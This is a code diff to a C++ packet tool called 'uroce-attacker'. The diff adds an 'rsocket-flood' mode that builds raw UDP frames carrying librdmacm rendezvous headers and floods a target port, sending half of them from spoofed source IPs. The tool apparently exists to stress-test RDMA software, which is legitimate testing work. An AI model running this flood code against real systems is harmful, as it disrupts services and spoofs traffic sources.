@@ -22,6 +22,12 @@
 //   uroce-attacker IFACE mad-flood DST_IP DST_MAC COUNT
 //       COUNT CM MADs (REQs for a service nobody listens on, DREQs for
 //       unknown IDs), each from a new spoofed IP in 10.200.0.0/16
+//   uroce-attacker IFACE rsocket-flood DST_IP DST_MAC PORT COUNT
+//       COUNT datagram-rsocket rendezvous datagrams (librdmacm's UDP header,
+//       op data, a random QPN; then 8 bytes udpong takes as data and does
+//       not answer) to UDP PORT: the even ones from our own IP, the odd
+//       ones from spoofed IPs of our /24 nobody has (.100-.199, no ARP
+//       answer), each from a new source port
 //
 // Numbers may be decimal or 0x-hex; IPs dotted quads; MACs aa:bb:...  Exit
 // 0 when it did what was asked, 1 otherwise, 2 for usage.
@@ -51,6 +57,7 @@
 #include "lib/wire/ipv4.hpp"
 #include "lib/wire/mad.hpp"
 #include "lib/wire/pkt.hpp"
+#include "lib/wire/udp.hpp"
 
 namespace {
 
@@ -295,6 +302,50 @@ int mad_flood(uint32_t dst, const wire::MacAddr& dmac, unsigned count) {
   return 0;
 }
 
+int rsocket_flood(uint32_t dst, const wire::MacAddr& dmac, uint16_t port, unsigned count) {
+  std::mt19937 rng(std::random_device{}());
+  constexpr size_t kHdr = wire::Eth::kSize + 20 + wire::Udp::kSize;
+  for (unsigned i = 0; i < count; ++i) {
+    const uint32_t src = i % 2 == 0 ? g_ip : (g_ip & 0xFFFFFF00u) | (100 + (i / 2) % 100);
+    std::array<uint8_t, kHdr + 16 + 8> f{};
+    wire::Eth e(f.data());
+    e.set_dst(dmac);
+    e.set_src(g_mac);
+    e.set_ethertype(0x0800);
+    wire::Ipv4 ip(f.data() + wire::Eth::kSize);
+    ip.set_version_ihl(5);
+    ip.set_total_len(static_cast<uint16_t>(f.size() - wire::Eth::kSize));
+    ip.set_ttl(64);
+    ip.set_protocol(17);
+    ip.set_src(src);
+    ip.set_dst(dst);
+    ip.update_checksum();
+    wire::Udp u(f.data() + wire::Eth::kSize + 20);
+    u.set_src_port(static_cast<uint16_t>(20000 + i % 40000));
+    u.set_dst_port(port);
+    u.set_length(static_cast<uint16_t>(wire::Udp::kSize + 16 + 8));
+    u.set_checksum(0);  // none (IPv4)
+    uint8_t* r = f.data() + kHdr;  // the rendezvous header: tag, version, op, length, -, QPN, IPv4
+    wire::store_be<uint32_t>(r, 0x55555555);
+    r[4] = 4;
+    r[5] = 0;  // data
+    r[6] = 16;
+    wire::store_be<uint32_t>(r + 8, rng() & 0xFFFFFF);
+    wire::store_be<uint32_t>(r + 12, src);
+    r[16] = 2;  // udpong: msg_op_data from client 0 (counted, not answered)
+    sockaddr_ll to{};
+    to.sll_family = AF_PACKET;
+    to.sll_ifindex = g_ifindex;
+    to.sll_halen = 6;
+    std::memcpy(to.sll_addr, dmac.data(), 6);
+    if (::sendto(g_fd, f.data(), f.size(), 0, reinterpret_cast<sockaddr*>(&to), sizeof to) !=
+        static_cast<ssize_t>(f.size()))
+      return 1;
+    if (i % 64 == 63) usleep(500);  // paced, so that most reach the socket rather than its full buffer
+  }
+  return 0;
+}
+
 }  // namespace
 
 int main(int argc, char** argv) {
@@ -315,6 +366,8 @@ int main(int argc, char** argv) {
   if (cmd == "write" && n == 8)
     return write(ip4(a[0]), ip4(a[1]), mac(a[2]), static_cast<uint32_t>(num(a[3])), static_cast<uint32_t>(num(a[4])),
                  num(a[5]), static_cast<uint32_t>(num(a[6])), static_cast<uint32_t>(num(a[7])));
+  if (cmd == "rsocket-flood" && n == 4)
+    return rsocket_flood(ip4(a[0]), mac(a[1]), static_cast<uint16_t>(num(a[2])), static_cast<unsigned>(num(a[3])));
   if (cmd == "mad-flood" && n == 3) return mad_flood(ip4(a[0]), mac(a[1]), static_cast<unsigned>(num(a[2])));
   usage();
 }
